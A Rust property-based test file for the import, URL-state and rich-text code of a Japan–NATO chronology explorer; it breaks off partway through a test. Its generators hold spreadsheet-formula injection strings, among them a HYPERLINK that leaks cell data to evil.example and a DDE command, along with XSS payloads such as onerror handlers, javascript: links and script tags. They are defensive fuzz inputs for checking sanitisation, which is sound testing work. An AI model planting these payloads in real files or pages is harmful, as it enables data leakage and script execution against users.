#![cfg(not(target_arch = "wasm32"))]
//! Properties of the import and of the URL state over random input: nothing panics, and an
//! import that succeeds always gives a chronology that keeps every rule. Also: our CSV export
//! re-imports to the same events whatever their text (formula-like cells included), every id
//! an import accepts survives a link, and rich text parses hostile HTML into its allow-list.
//!
//! `FUZZ_CASES` sets the number of cases per property (256 by default, so that `cargo test`
//! stays quick); `scripts/fuzz.sh` runs many more in release mode.

use japan_nato_explorer::core::dataset::export::{to_csv, to_json, CSV_COLUMNS};
use japan_nato_explorer::core::dataset::validate::validate;
use japan_nato_explorer::core::dataset::Chronology;
use japan_nato_explorer::core::dataset::EMBEDDED_JSON;
use japan_nato_explorer::core::import::{import, ImportFailure, Imported, MAX_IMPORT_BYTES};
use japan_nato_explorer::core::query::Filter;
use japan_nato_explorer::core::rich_text::{Node, RichText};
use japan_nato_explorer::core::text::{id_problem, is_invisible, without_controls, MAX_ID_CHARS};
use japan_nato_explorer::core::url_state::{self, ViewState};
use proptest::prelude::*;
use serde_json::{Map, Number, Value};
use std::collections::{BTreeSet, HashMap};
use std::sync::OnceLock;

/// The number of cases per property: `FUZZ_CASES`, or 256.
fn cases() -> u32 {
    std::env::var("FUZZ_CASES")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(256)
}

fn config() -> ProptestConfig {
    ProptestConfig {
        // Failures are reported with their input; no regression files are written.
        failure_persistence: None,
        ..ProptestConfig::with_cases(cases())
    }
}

/// Checks what every import result must satisfy.
fn check(result: &Result<Imported, ImportFailure>) -> Result<(), TestCaseError> {
    match result {
        Ok(imported) => {
            let problems = validate(&imported.chronology);
            prop_assert!(
                problems.is_empty(),
                "an accepted import breaks rules: {problems:?}"
            );
            prop_assert!(!imported.chronology.events.is_empty());
            let mut sorted = imported.chronology.clone();
            sorted.sort_events();
            prop_assert_eq!(&sorted.events, &imported.chronology.events);
            prop_assert!(imported.skipped.len() <= 1001);
        }
        Err(failure) => {
            prop_assert!(!failure.problems.is_empty());
            prop_assert!(failure.problems.len() <= 1001);
            prop_assert!(failure.bad_records <= failure.records);
        }
    }
    Ok(())
}

/// Imports in both modes and checks both results; a skipping import succeeds whenever the
/// strict one does or says it can skip.
fn import_both(bytes: &[u8], name: &str) -> Result<(), TestCaseError> {
    prop_assert!(bytes.len() as u64 <= MAX_IMPORT_BYTES);
    let strict = import(bytes, name, false);
    check(&strict)?;
    let skipping = import(bytes, name, true);
    check(&skipping)?;
    match &strict {
        Ok(s) => prop_assert_eq!(skipping.as_ref().ok(), Some(s)),
        Err(f) if f.can_skip => prop_assert!(skipping.is_ok(), "can_skip but {:?}", skipping),
        Err(_) => {}
    }
    Ok(())
}

fn embedded_csv() -> &'static str {
    static CSV: OnceLock<String> = OnceLock::new();
    CSV.get_or_init(|| {
        let data = japan_nato_explorer::core::dataset::embedded().unwrap_or_else(|e| panic!("{e}"));
        to_csv(&data)
    })
}

fn embedded_json() -> &'static str {
    static JSON: OnceLock<String> = OnceLock::new();
    JSON.get_or_init(|| {
        let data = japan_nato_explorer::core::dataset::embedded().unwrap_or_else(|e| panic!("{e}"));
        to_json(&data)
    })
}

const TIMELINE_HEADER: [&str; 18] = [
    "Year",
    "Month",
    "Day",
    "Time",
    "End Year",
    "End Month",
    "End Day",
    "End Time",
    "Display Date",
    "Headline",
    "Text",
    "Media",
    "Media Credit",
    "Media Caption",
    "Media Thumbnail",
    "Type",
    "Group",
    "Background",
];

/// A cell of a spreadsheet: the kinds of text that trip parsers up.
fn cell() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zA-Z0-9 ]{0,8}",
        "[-+]?[0-9]{1,9}",
        "-?[0-9]{4,7}(-[0-9]{2}(-[0-9]{2})?)?",
        "[0-9]{1,3}(;[0-9]{1,3}){0,3}",
        "\\PC{0,8}",
        "[\",\r\n; ]{1,4}",
        prop::sample::select(vec![
            "",
            "title",
            "era",
            "Sept.",
            "February",
            "0",
            "13",
            "31",
            "29",
            "-44",
            "99999999",
            "1000000",
            "-1000001",
            "https://example.org/a",
            "javascript:alert(1)",
            "data:text/html,x",
            "<script>alert(1)</script>",
            "a-b; c-d",
            " ; https://x.org",
            "\u{feff}",
            "\"",
        ])
        .prop_map(String::from),
    ]
}

/// A CSV field as a writer might put it: bare, or quoted with `""` escapes.
fn written(cell: &str, quote: bool) -> String {
    if quote {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_string()
    }
}

/// A plausible row for a header: dates where dates go, text elsewhere.
fn good_cells(header: &[String]) -> BoxedStrategy<Vec<String>> {
    let strategies: Vec<BoxedStrategy<String>> = header
        .iter()
        .map(|name| match name.trim().to_lowercase().as_str() {
            "year" => "-?[0-9]{1,6}".boxed(),
            "end year" => prop_oneof![Just(String::new()), "[0-9]{4}"].boxed(),
            "month" | "end month" => {
                prop_oneof![Just(String::new()), "[1-9]", "(Jan|feb|March|Sept\\.)"].boxed()
            }
            "day" | "end day" => prop_oneof![Just(String::new()), "[1-9]", "[12][0-9]"].boxed(),
            "id" => "[a-c][0-9]".boxed(),
            "start" => "(19[0-9]{2}|-0044|12345)(-0[1-9](-[0-2][1-9])?)?".boxed(),
            "end" => prop_oneof![Just(String::new()), "20[0-9]{2}"].boxed(),
            "title" | "headline" => "[A-Za-z<>/ ]{1,10}".boxed(),
            "type" => prop_oneof![Just(String::new()), "title", "era", "Era"].boxed(),
            "phase" | "group" => prop_oneof![Just(String::new()), "[a-c]", "Phase [ÄB]"].boxed(),
            "domains" | "third_parties" => "([a-c](; [a-c]){0,2})?".boxed(),
            "footnotes" => "([1-9](; [1-9]){0,2})?".boxed(),
            "media" | "source_urls" => {
                prop_oneof![Just(String::new()), "https://example.org/[a-z]{1,3}"].boxed()
            }
            _ => "[a-zA-Z0-9 ,\"\n]{0,10}".boxed(),
        })
        .collect();
    strategies.boxed()
}

/// A CSV row: a plausible one, with a few cells replaced and sometimes a cell too many or few.
fn csv_row(header: &[String]) -> BoxedStrategy<String> {
    (
        good_cells(header),
        prop::collection::vec((any::<prop::sample::Index>(), cell()), 0..3),
        prop_oneof![8 => Just(0i8), 1 => Just(-1i8), 1 => Just(1i8)],
        prop::collection::vec(any::<bool>(), header.len() + 1),
    )
        .prop_map(|(mut cells, changes, resize, quote)| {
            if !cells.is_empty() {
                for (at, value) in changes {
                    let i = at.index(cells.len());
                    if let Some(c) = cells.get_mut(i) {
                        *c = value;
                    }
                }
            }
            match resize {
                -1 => {
                    cells.pop();
                }
                1 => cells.push("extra".into()),
                _ => {}
            }
            cells
                .iter()
                .zip(quote.iter().chain(std::iter::repeat(&false)))
                .map(|(c, q)| written(c, *q || c.contains([',', '"', '\n', '\r'])))
                .collect::<Vec<_>>()
                .join(",")
        })
        .boxed()
}

fn csv_text() -> impl Strategy<Value = String> {
    let header = prop_oneof![
        Just(
            TIMELINE_HEADER
                .iter()
                .map(|s| s.to_string())
                .collect::<Vec<_>>()
        ),
        Just(
            CSV_COLUMNS
                .iter()
                .map(|s| s.to_string())
                .collect::<Vec<_>>()
        ),
        Just(
            ["headline", "YEAR", "Month", "Day", "type", "media", "End Year"]
                .map(String::from)
                .to_vec()
        ),
        Just(
            [
                "id",
                "start",
                "title",
                "end",
                "phase",
                "footnotes",
                "source_urls"
            ]
            .map(String::from)
            .to_vec()
        ),
        prop::collection::vec(cell(), 0..6),
    ];
    header
        .prop_flat_map(|header| {
            let row = csv_row(&header);
            (
                Just(header),
                prop::collection::vec(row, 0..12),
                any::<bool>(),
                any::<bool>(),
            )
        })
        .prop_map(|(header, rows, crlf, trailing)| {
            let end = if crlf { "\r\n" } else { "\n" };
            let mut out = header
                .iter()
                .map(|h| written(h, h.contains([',', '"', '\n', '\r'])))
                .collect::<Vec<_>>()
                .join(",");
            for row in rows {
                out.push_str(end);
                out.push_str(&row);
            }
            if trailing {
                out.push_str(end);
            }
            out
        })
}

/// Any small JSON value.
fn any_value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| Value::Number(n.into())),
        any::<f64>().prop_map(|f| Number::from_f64(f).map_or(Value::Null, Value::Number)),
        "\\PC{0,12}".prop_map(Value::String),
    ];
    leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::vec(("[a-z_]{1,8}", inner), 0..4)
                .prop_map(|kv| Value::Object(kv.into_iter().collect())),
        ]
    })
}

/// A value for a field: usually of a plausible kind, sometimes anything.
fn field_value() -> impl Strategy<Value = Value> {
    prop_oneof![
        3 => "-?[0-9]{1,8}(-[0-9]{1,2}(-[0-9]{1,2})?)?".prop_map(Value::String),
        2 => (-2_000_000i64..2_000_000).prop_map(|n| Value::Number(n.into())),
        2 => (0i64..40).prop_map(|n| Value::Number(n.into())),
        2 => cell().prop_map(Value::String),
        1 => prop::collection::vec(cell().prop_map(Value::String), 0..3).prop_map(Value::Array),
        1 => prop::collection::vec((0u32..5).prop_map(|n| Value::Number(n.into())), 0..3).prop_map(Value::Array),
        1 => any_value(),
    ]
}

/// An object with some of the given keys (and sometimes an unknown one).
fn object(keys: &'static [&'static str], values: BoxedStrategy<Value>) -> BoxedStrategy<Value> {
    prop::collection::vec(
        (
            prop_oneof![9 => prop::sample::select(keys), 1 => Just("unknown")],
            values,
        ),
        0..keys.len() + 2,
    )
    .prop_map(|kv| {
        Value::Object(
            kv.into_iter()
                .map(|(k, v)| (k.to_string(), v))
                .collect::<Map<_, _>>(),
        )
    })
    .boxed()
}

/// An object that starts plausible, with a few fields replaced by random values or removed.
fn changed(
    base: BoxedStrategy<Map<String, Value>>,
    keys: &'static [&'static str],
    values: BoxedStrategy<Value>,
) -> BoxedStrategy<Value> {
    (
        base,
        prop::collection::vec(
            (
                prop_oneof![9 => prop::sample::select(keys), 1 => Just("unknown")],
                prop::option::of(values),
            ),
            0..3,
        ),
    )
        .prop_map(|(mut object, changes)| {
            for (key, value) in changes {
                match value {
                    Some(v) => object.insert(key.to_string(), v),
                    None => object.remove(key),
                };
            }
            Value::Object(object)
        })
        .boxed()
}

/// A TimelineJS date object at year, month or day precision.
fn good_date() -> BoxedStrategy<Value> {
    (
        prop_oneof![
            (-3000i64..3000).prop_map(|y| Value::Number(y.into())),
            "-?[0-9]{1,7}".prop_map(Value::String),
        ],
        prop::option::of((1u8..=12, prop::option::of(1u8..=28))),
    )
        .prop_map(|(year, month)| match month {
            None => serde_json::json!({ "year": year }),
            Some((m, None)) => serde_json::json!({ "year": year, "month": m }),
            Some((m, Some(d))) => {
                serde_json::json!({ "year": year, "month": m.to_string(), "day": d })
            }
        })
        .boxed()
}

fn timeline_json() -> impl Strategy<Value = Value> {
    let date = object(
        &["year", "month", "day", "hour", "display_date"],
        field_value().boxed(),
    );
    let text = object(&["headline", "text"], field_value().boxed());
    let media = object(&["url", "caption", "credit"], field_value().boxed());
    let slide_value = prop_oneof![
        3 => date.clone(),
        1 => text.clone(),
        1 => media,
        2 => field_value(),
    ]
    .boxed();
    let base = (
        good_date(),
        prop::option::of(good_date()),
        "[A-Za-z<>/ ]{0,10}",
        "\\PC{0,100}",
        prop::option::of(prop_oneof![
            "https://example.org/[a-z]{1,3}",
            Just("javascript:alert(1)".to_string())
        ]),
        prop::option::of(prop_oneof!["Summits", "Visits", "日本", "!!"]),
        prop::option::of("[a-c]"),
    )
        .prop_map(|(start, end, headline, text, url, group, id)| {
            let mut m = Map::new();
            m.insert("start_date".into(), start);
            if let Some(end) = end {
                m.insert("end_date".into(), end);
            }
            m.insert(
                "text".into(),
                serde_json::json!({ "headline": headline, "text": text }),
            );
            if let Some(url) = url {
                m.insert(
                    "media".into(),
                    serde_json::json!({ "url": url, "credit": "C" }),
                );
            }
            if let Some(group) = group {
                m.insert("group".into(), Value::String(group));
            }
            if let Some(id) = id {
                m.insert("unique_id".into(), Value::String(id));
            }
            m
        })
        .boxed();
    let slide = changed(
        base,
        &[
            "start_date",
            "end_date",
            "text",
            "media",
            "group",
            "unique_id",
            "background",
        ],
        slide_value,
    );
    let era_base = (good_date(), good_date(), "[A-Z][a-z]{0,5}")
        .prop_map(|(start, end, headline)| {
            let mut m = Map::new();
            m.insert("start_date".into(), start);
            m.insert("end_date".into(), end);
            m.insert("text".into(), serde_json::json!({ "headline": headline }));
            m
        })
        .boxed();
    let era = changed(
        era_base,
        &["start_date", "end_date", "text"],
        prop_oneof![date, text].boxed(),
    );
    (
        prop::collection::vec(slide, 0..10),
        prop::option::of(prop::collection::vec(era, 0..4)),
        prop::option::of(any_value()),
    )
        .prop_map(|(events, eras, title)| {
            let mut root = Map::new();
            root.insert("events".into(), Value::Array(events));
            if let Some(eras) = eras {
                root.insert("eras".into(), Value::Array(eras));
            }
            let title = title.unwrap_or_else(|| serde_json::json!({"text": {"headline": "T"}}));
            root.insert("title".into(), title);
            Value::Object(root)
        })
}

/// A TimelineJS 2 date: "2011,12,10" and its kin, with spaces, times, a sheet's slashes.
fn tl2_date() -> BoxedStrategy<Value> {
    prop_oneof![
        4 => "-?[0-9]{1,5}( ?, ?[0-9]{0,2}){0,7}".prop_map(Value::String),
        1 => "[0-9]{1,2}/[0-9]{1,2}/-?[0-9]{1,5}/?".prop_map(Value::String),
        2 => field_value(),
    ]
    .boxed()
}

/// TimelineJS 2 JSON: `{"timeline": {"headline", "date": […], "era": […]}}`, often broken.
fn timeline2_json() -> impl Strategy<Value = Value> {
    let asset = object(
        &["media", "credit", "caption", "thumbnail"],
        field_value().boxed(),
    );
    let base = (
        tl2_date(),
        prop::option::of(tl2_date()),
        "[A-Za-z<>/ ]{0,10}",
        "\\PC{0,60}",
        prop::option::of(prop_oneof!["Summits", "日本", "!!"]),
        prop::option::of(prop_oneof![
            "https://example.org/[a-z]{1,3}",
            "//example.org/[a-z]{1,3}",
            Just("javascript:alert(1)".to_string())
        ]),
    )
        .prop_map(|(start, end, headline, text, tag, media)| {
            let mut m = Map::new();
            m.insert("startDate".into(), start);
            if let Some(end) = end {
                m.insert("endDate".into(), end);
            }
            m.insert("headline".into(), Value::String(headline));
            m.insert("text".into(), Value::String(text));
            if let Some(tag) = tag {
                m.insert("tag".into(), Value::String(tag));
            }
            if let Some(media) = media {
                m.insert(
                    "asset".into(),
                    serde_json::json!({ "media": media, "credit": "C" }),
                );
            }
            m
        })
        .boxed();
    let date = changed(
        base,
        &[
            "startDate",
            "endDate",
            "headline",
            "text",
            "tag",
            "asset",
            "classname",
        ],
        prop_oneof![2 => field_value().boxed(), 1 => asset].boxed(),
    );
    let era = (tl2_date(), tl2_date(), prop::option::of(field_value()))
        .prop_map(|(start, end, headline)| {
            serde_json::json!({ "startDate": start, "endDate": end, "headline": headline.unwrap_or_else(|| "Era".into()) })
        });
    (
        prop::option::of(prop::collection::vec(date, 0..10)),
        prop::option::of(prop::collection::vec(era, 0..4)),
        prop::option::of(field_value()),
        prop::bool::weighted(0.9),
    )
        .prop_map(|(dates, eras, headline, nested)| {
            let mut tl = Map::new();
            if let Some(dates) = dates {
                tl.insert("date".into(), Value::Array(dates));
            }
            if let Some(eras) = eras {
                tl.insert("era".into(), Value::Array(eras));
            }
            if let Some(headline) = headline {
                tl.insert("headline".into(), headline);
            }
            tl.insert(
                "asset".into(),
                serde_json::json!({ "media": "//x.org/a.jpg" }),
            );
            if nested {
                serde_json::json!({ "timeline": tl })
            } else {
                serde_json::json!({ "timeline": Value::Array(vec![Value::Object(tl)]) })
            }
        })
}

fn our_json() -> impl Strategy<Value = Value> {
    let base = (
        "e[0-9]",
        "(19[0-9]{2}|-0044|123456)(-0[1-9](-[0-2][1-9])?)?",
        prop::option::of("20[0-9]{2}"),
        "[A-Za-z<>/ ]{1,10}",
        prop_oneof![Just(""), Just("formal-relations"), Just("nope")],
        prop::collection::vec(
            prop_oneof![Just("cyber"), Just("piracy"), Just("astrology")],
            0..2,
        ),
        prop::collection::vec(0u32..100, 0..2),
    )
        .prop_map(|(id, start, end, title, phase, domains, footnotes)| {
            let mut m = Map::new();
            m.insert("id".into(), Value::String(id));
            m.insert("start".into(), Value::String(start));
            if let Some(end) = end {
                m.insert("end".into(), Value::String(end));
            }
            m.insert("title".into(), Value::String(title));
            m.insert("summary".into(), Value::String(String::new()));
            m.insert("phase".into(), Value::String(phase.to_string()));
            m.insert("domains".into(), serde_json::json!(domains));
            m.insert("footnotes".into(), serde_json::json!(footnotes));
            m
        })
        .boxed();
    let event = changed(
        base,
        &[
            "id",
            "start",
            "end",
            "title",
            "summary",
            "phase",
            "domains",
            "third_parties",
            "actors",
            "footnotes",
            "evidence",
            "note",
        ],
        field_value().boxed(),
    );
    (
        prop::collection::vec(event, 0..10),
        prop::collection::vec(any::<bool>(), 4),
    )
        .prop_map(|(events, parts)| {
            let mut root: Map<String, Value> =
                serde_json::from_str(EMBEDDED_JSON).unwrap_or_default();
            root.insert("events".into(), Value::Array(events));
            for (key, keep) in ["phases", "domains", "footnotes", "source"]
                .iter()
                .zip(parts)
            {
                if !keep {
                    root.remove(*key);
                }
            }
            Value::Object(root)
        })
}

/// The embedded dataset's JSON with one event's field replaced by a random value.
fn mutated_event_json() -> impl Strategy<Value = Value> {
    (
        any::<prop::sample::Index>(),
        prop::sample::select(vec![
            "id",
            "start",
            "end",
            "title",
            "phase",
            "domains",
            "footnotes",
            "note",
            "extra",
        ]),
        field_value(),
    )
        .prop_map(|(index, key, value)| {
            let mut root: Value = serde_json::from_str(EMBEDDED_JSON).unwrap_or_default();
            if let Some(events) = root.get_mut("events").and_then(Value::as_array_mut) {
                let i = index.index(events.len().max(1));
                if let Some(Value::Object(event)) = events.get_mut(i) {
                    event.insert(key.to_string(), value);
                }
            }
            root
        })
}

/// Truncation at a random byte, then a few random byte changes.
fn mutate(text: &str, cut: prop::sample::Index, flips: &[(prop::sample::Index, u8)]) -> Vec<u8> {
    let mut bytes = text.as_bytes().to_vec();
    let len = cut.index(bytes.len() + 1);
    bytes.truncate(len);
    if !bytes.is_empty() {
        for (at, b) in flips {
            let i = at.index(bytes.len());
            if let Some(x) = bytes.get_mut(i) {
                *x = *b;
            }
        }
    }
    bytes
}

fn flips() -> impl Strategy<Value = Vec<(prop::sample::Index, u8)>> {
    prop::collection::vec(
        (
            any::<prop::sample::Index>(),
            prop_oneof![
                any::<u8>(),
                prop::sample::select(b"{}[]\",:\\\n\r-0123456789".to_vec()),
            ],
        ),
        0..4,
    )
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..512), json in any::<bool>()) {
        import_both(&bytes, if json { "x.json" } else { "x.csv" })?;
    }

    #[test]
    fn csv_shaped_text_never_panics(text in csv_text()) {
        import_both(text.as_bytes(), "sheet.csv")?;
    }

    #[test]
    fn timeline_json_of_any_shape_never_panics(value in timeline_json()) {
        import_both(value.to_string().as_bytes(), "timeline.json")?;
    }

    #[test]
    fn timeline2_json_of_any_shape_never_panics(value in timeline2_json()) {
        import_both(value.to_string().as_bytes(), "timeline2.json")?;
    }

    #[test]
    fn chronology_json_of_any_shape_never_panics(value in our_json()) {
        import_both(value.to_string().as_bytes(), "chronology.json")?;
    }

    #[test]
    fn a_changed_event_of_the_dataset_never_panics(value in mutated_event_json()) {
        import_both(value.to_string().as_bytes(), "japan-nato.json")?;
    }

    #[test]
    fn mutated_json_export_never_panics(cut in any::<prop::sample::Index>(), flips in flips()) {
        import_both(&mutate(embedded_json(), cut, &flips), "japan-nato.json")?;
    }

    #[test]
    fn mutated_csv_export_never_panics(cut in any::<prop::sample::Index>(), flips in flips()) {
        import_both(&mutate(embedded_csv(), cut, &flips), "japan-nato.csv")?;
    }

    #[test]
    fn any_query_string_parses_without_panicking(query in prop_oneof![
        "\\PC{0,80}",
        "[?&=%+,a-z0-9.:TZ-]{0,80}",
        prop::collection::vec(
            (
                prop::sample::select(vec!["phase", "domain", "party", "q", "dim", "from", "to", "event", "synthetic", "x"]),
                prop_oneof!["[a-z0-9,%.:+-]{0,20}", "-?[0-9]{1,12}(-[0-9]{1,2}(-[0-9]{1,2}(T[0-9]{1,2}:[0-9]{1,2})?)?)?", "\\PC{0,10}"],
            ),
            0..8,
        ).prop_map(|kv| format!("?{}", kv.iter().map(|(k, v)| format!("{k}={v}")).collect::<Vec<_>>().join("&"))),
    ]) {
        let (view, _notices) = url_state::parse(&query);
        // What a parsed view writes back parses to the same view.
        let again = url_state::parse(&url_state::to_query(&view)).0;
        prop_assert_eq!(again, view);
    }
}

// ---- CSV round trip with formula-like cells -------------------------------------------------

/// Text that a spreadsheet would take for a formula, or that looks like our own escaping.
fn formula_text() -> impl Strategy<Value = String> {
    prop_oneof![
        2 => ("['= +@\t\r-]{0,3}", "\\PC{0,12}").prop_map(|(a, b)| a + &b),
        1 => prop::sample::select(vec![
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "-5",
            "+1",
            "@SUM(A1)",
            "'",
            "''=1",
            "'-5",
            "\t=1",
            "\r=1",
            "a;=1",
            "x\r\ny",
            "\u{1}=1",
            "-0500",
        ])
        .prop_map(String::from),
        1 => prop::collection::vec(any::<char>(), 0..10).prop_map(|c| c.into_iter().collect()),
    ]
}

/// An event id that an import accepts, often one that starts like a formula: made so, rather
/// than filtered (most random texts have a control character or a space at an end).
fn csv_id() -> impl Strategy<Value = String> {
    formula_text().prop_map(|text| {
        let kept: String = text
            .chars()
            .filter(|c| !c.is_control() && !is_invisible(*c))
            .take(MAX_ID_CHARS)
            .collect();
        let id = kept.trim();
        if id.is_empty() {
            "x".to_string()
        } else {
            id.to_string()
        }
    })
}

/// The cells of a CSV text (RFC 4180, commas), for checking what a spreadsheet would see.
fn csv_cells(text: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') | (false, '\n') => cells.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, c) => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

/// A few events of the built-in chronology with the given texts (ids made unique, titles not
/// blank).
fn events_with(texts: Vec<(String, String, String, String, String, Vec<String>)>) -> Chronology {
    let mut data = japan_nato_explorer::core::dataset::embedded().unwrap_or_else(|e| panic!("{e}"));
    data.events.truncate(texts.len());
    let mut ids = BTreeSet::new();
    for (i, (e, (id, title, summary, evidence, note, actors))) in
        data.events.iter_mut().zip(texts).enumerate()
    {
        let mut id = id;
        while ids.contains(&id) {
            id = format!("{id}{i}");
        }
        e.id = id;
        ids.insert(e.id.clone());
        e.title = if cleaned(&title).trim().is_empty() {
            title + "t"
        } else {
            title
        };
        e.summary = summary;
        e.evidence = evidence;
        e.note = Some(note);
        e.actors = actors;
    }
    data
}

/// What the import makes of a text: control characters removed, line ends made `\n`.
fn cleaned(text: &str) -> String {
    without_controls(text).0.into_owned()
}

// ---- ids through links -----------------------------------------------------------------------

/// Any id a file might give: arbitrary Unicode, the link's own punctuation, controls, spaces.
fn file_id() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{1,16}",
        "[ ,+%&=#?/;:@'\"<>a-z0-9-]{1,10}",
        prop::collection::vec(any::<char>(), 1..8).prop_map(|c| c.into_iter().collect()),
        prop::sample::select(vec!["event 1", "a/b?c#d", "a,b", " x", "x\u{200b}", "100%"])
            .prop_map(String::from),
    ]
}

/// A chronology file in our JSON with the given ids for its phases, domains, third parties and
/// events (each event in every facet value).
fn json_with_ids(
    phases: &BTreeSet<String>,
    domains: &BTreeSet<String>,
    parties: &BTreeSet<String>,
    events: &BTreeSet<String>,
) -> String {
    let phase = phases.iter().next().cloned().unwrap_or_default();
    serde_json::json!({
        "title": "T",
        "source": {"title": "S", "author": "A"},
        "phases": phases.iter().map(|id| serde_json::json!({
            "id": id, "label": "P", "start": "1900", "end": "2100", "summary": "", "evidence": ""
        })).collect::<Vec<_>>(),
        "domains": domains.iter().map(|id| serde_json::json!({"id": id, "label": "D"})).collect::<Vec<_>>(),
        "third_parties": parties.iter().map(|id| serde_json::json!({"id": id, "label": "T"})).collect::<Vec<_>>(),
        "events": events.iter().map(|id| serde_json::json!({
            "id": id, "start": "2000", "title": "E", "summary": "",
            "phase": phase, "domains": domains, "third_parties": parties
        })).collect::<Vec<_>>(),
    })
    .to_string()
}

// ---- rich text -------------------------------------------------------------------------------

/// Tag soup: allowed and hostile tags, attributes, comments, references, stray brackets. No
/// reference to `<` (so that a `<script` in the plain text could only come from the parser).
fn tag_soup() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        3 => "[a-zA-Z ]{1,6}",
        1 => "\\PC{1,4}",
        2 => prop::sample::select(vec![
            "<p>", "</p>", "<br>", "<br/>", "</br>", "<b>", "</b>", "<strong>", "</strong>",
            "<i>", "</i>", "<em>", "</em>", "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>",
            "<a href=\"https://www.nato.int/x?a=1&amp;b=2\">", "<a href='http://x.org'>",
            "<a href=javascript:alert(1)>", "<a href=\"&#106;avascript:x\">", "<a>", "</a>",
            "<script>", "</script>", "<SCRIPT>", "<script src=x>", "<style>", "</style>",
            "<img src=x onerror=alert(1)>", "<iframe>", "</iframe>", "<svg>", "</svg>",
            "<div>", "</div>", "<span onclick=x>", "</span>", "<h1>", "<table><tr><td>",
            "<!--", "-->", "<![CDATA[", "]]>", "<!doctype html>", "<?x?>", "<", ">", "</",
            "&amp;", "&gt;", "&quot;", "&#39;", "&#x27;", "&nbsp;", "&#0;", "&#1;", "&bogus;",
            "&", "\"", "'", "=", "\n", "\t", "<p onclick=\"alert(1)\">", "<b title='a>b'>",
            "<a href=\"https://x.org\" onmouseover=alert(1)>",
        ])
        .prop_map(String::from),
    ];
    prop::collection::vec(token, 0..40).prop_map(|t| t.concat())
}

/// Every link of a tree.
fn hrefs(nodes: &[Node], out: &mut Vec<String>) {
    for n in nodes {
        if let Node::Element(e) = n {
            if let japan_nato_explorer::core::rich_text::Kind::Link { href } = &e.kind {
                out.push(href.clone());
            }
            hrefs(&e.children, out);
        }
    }
}

/// How deep a tree nests.
fn depth(nodes: &[Node]) -> usize {
    nodes
        .iter()
        .map(|n| match n {
            Node::Element(e) => 1 + depth(&e.children),
            Node::Text(_) => 0,
        })
        .max()
        .unwrap_or(0)
}

/// The checks every parsed text must pass.
fn check_rich_text(markup: &str) -> Result<RichText, TestCaseError> {
    let tree = RichText::parse(markup);
    let html = tree.to_html();
    prop_assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
    // Every tag is one of the allow-list's, with no attribute but a link's href.
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let name = tag.trim_start_matches('/');
        prop_assert!(
            ["p", "br", "b", "i", "ul", "ol", "li", "a"].contains(&name)
                || (tag.starts_with("a href=\"")
                    && tag.ends_with('"')
                    && tag.matches('"').count() == 2),
            "the tag <{}> in {}",
            tag,
            html
        );
    }
    prop_assert!(depth(&tree.nodes) <= japan_nato_explorer::core::rich_text::MAX_DEPTH);
    let mut links = Vec::new();
    hrefs(&tree.nodes, &mut links);
    for href in links {
        prop_assert!(
            japan_nato_explorer::core::dataset::validate::is_web_url(&href),
            "{href}"
        );
    }
    // The allow-list's HTML is what the tree is.
    prop_assert_eq!(&RichText::parse(&html), &tree, "{}", html);
    let _ = tree.plain_text();
    Ok(tree)
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn our_csv_export_re_imports_to_the_same_events_whatever_their_text(
        texts in prop::collection::vec(
            (
                csv_id(),
                formula_text(),
                formula_text(),
                formula_text(),
                formula_text(),
                prop::collection::vec("[=+@'a-z-][a-z =+'-]{0,6}[a-z]", 0..3),
            ),
            1..6,
        ),
    ) {
        let data = events_with(texts);
        let csv = to_csv(&data);
        // No cell starts like a formula once its spaces are set aside.
        for cell in csv_cells(&csv) {
            prop_assert!(
                !cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{:?}", cell
            );
        }
        let back = match import(csv.as_bytes(), "x.csv", false) {
            Ok(i) => i.chronology,
            Err(f) => return Err(TestCaseError::fail(format!("refused: {:?}\n{csv}", f.problems))),
        };
        let by_id: HashMap<&str, _> = back.events.iter().map(|e| (e.id.as_str(), e)).collect();
        prop_assert_eq!(back.events.len(), data.events.len());
        for e in &data.events {
            let b = by_id.get(e.id.as_str());
            prop_assert!(b.is_some(), "{:?} is missing", e.id);
            let b = b.copied().unwrap_or_else(|| unreachable!());
            prop_assert_eq!(&b.title, &cleaned(&e.title));
            prop_assert_eq!(&b.summary, &cleaned(&e.summary));
            prop_assert_eq!(&b.evidence, &cleaned(&e.evidence));
            let note = e.note.as_deref().map(cleaned).filter(|n| !n.is_empty());
            prop_assert_eq!(&b.note, &note);
            prop_assert_eq!(&b.actors, &e.actors);
            prop_assert_eq!((b.start, b.end), (e.start, e.end));
        }
    }

    #[test]
    fn every_id_an_import_accepts_survives_a_link(
        phases in prop::collection::btree_set(file_id(), 0..3),
        domains in prop::collection::btree_set(file_id(), 0..4),
        parties in prop::collection::btree_set(file_id(), 0..3),
        events in prop::collection::btree_set(file_id(), 1..4),
        text in "\\PC{0,20}",
        dim: bool,
        window in prop::option::of((-100_000.0f64..100_000.0, 1.0f64..20_000.0)),
    ) {
        let file = json_with_ids(&phases, &domains, &parties, &events);
        let imported = import(file.as_bytes(), "ids.json", false);
        check(&imported)?;
